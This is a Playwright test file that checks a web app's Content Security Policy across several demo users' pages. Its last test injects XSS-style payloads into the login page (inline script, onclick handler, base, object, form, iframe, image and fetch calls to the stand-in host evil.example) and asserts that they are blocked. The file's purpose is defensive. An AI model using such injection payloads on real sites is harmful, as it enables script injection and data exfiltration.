import type { Page } from 'playwright/test';
import { openDemo } from './support/demo-page.js';
import { comeIn, type DemoName, untilLoaded } from './support/person.js';
import { expect, test, type Visitor } from './support/test.js';

test.use({ platform: 'shared' });

/** Pages of everybody, with whatever they draw, fetch and open. Ids are those of the demo data. */
const PAGES: Readonly<Record<Exclude<DemoName, 'ivan' | 'misha' | 'lev' | 'pavel'>, readonly string[]>> = {
  olga: ['/', '/children/3', '/weekly-reports', '/profile', '/nowhere'],
  anna: ['/', '/materials', '/plans', '/progress'],
  elena: ['/', '/students', '/students/3', '/plans', '/materials', '/weekly-reports'],
  marina: ['/', '/students', '/weekly-reports'],
  nina: ['/users'],
};

/** What the browser refused to do, as `<directive> <what>`, for as long as the page is open. */
async function refusalsOf(page: Page): Promise<string[]> {
  const refusals: string[] = [];
  await page.exposeFunction('noteRefusal', (refusal: string) => refusals.push(refusal));
  await page.addInitScript(() => {
    const note = (globalThis as unknown as { noteRefusal: (refusal: string) => void }).noteRefusal;
    addEventListener('securitypolicyviolation', (event) => note(`${event.effectiveDirective} ${event.blockedURI}`));
  });
  return refusals;
}

for (const [name, paths] of Object.entries(PAGES) as [keyof typeof PAGES, readonly string[]][]) {
  test(`no page of ${name} wants what the policy refuses`, async ({ stack, visit }) => {
    const visitor: Visitor = await visit();
    const refusals = await refusalsOf(visitor.page);
    await comeIn(visitor, stack.url, name, paths[0]);
    for (const path of paths) {
      await visitor.page.goto(`${stack.url}${path}`);
      await untilLoaded(visitor);
    }
    expect(refusals).toEqual([]);
  });
}

test('neither do the log-in page and the demo', async ({ stack, visit }) => {
  const { page } = await visit();
  const refusals = await refusalsOf(page);
  await page.goto(`${stack.url}/login`);
  await expect(page.getByRole('button', { name: 'Olga Petrova' })).toBeVisible();
  await openDemo(page, stack.url);
  expect(refusals).toEqual([]);
});

test('what somebody smuggles into a page does not run, and nothing goes elsewhere', async ({ stack, visit }) => {
  const { page } = await visit();
  const refusals = await refusalsOf(page);
  await page.goto(`${stack.url}/login`);
  await expect(page.getByRole('button', { name: 'Olga Petrova' })).toBeVisible();
  const title = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'document.title = "taken over"';
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/script.js';
    const holder = document.createElement('div');
    holder.innerHTML =
      '<img src="https://evil.example/pixel.png"><button id="bait" onclick="document.title = \'taken over\'">x</button>' +
      '<base href="https://evil.example/"><object data="https://evil.example/a"></object>' +
      '<form id="form" action="https://evil.example/form"></form><iframe src="https://evil.example/frame"></iframe>';
    document.body.append(script, foreign, holder);
    document.getElementById('bait')?.click();
    (document.getElementById('form') as HTMLFormElement).requestSubmit();
    fetch('https://evil.example/data').catch(() => undefined);
    // Inline scripts run while they are added, or not at all.
    return document.title;
  });
  const directives = ['script-src-elem', 'script-src-attr', 'img-src', 'base-uri', 'object-src', 'form-action'];
  await expect
    .poll(() => [...new Set(refusals.map((refusal) => refusal.split(' ')[0]))].sort())
    .toEqual([...directives, 'connect-src', 'frame-src'].sort());
  expect(refusals.filter((refusal) => refusal.startsWith('script-src-elem')).sort()).toEqual([
    'script-src-elem https://evil.example/script.js',
    'script-src-elem inline',
  ]);
  expect(title).toContain('Log in');
  expect(new URL(page.url()).origin).toBe(stack.url);
});
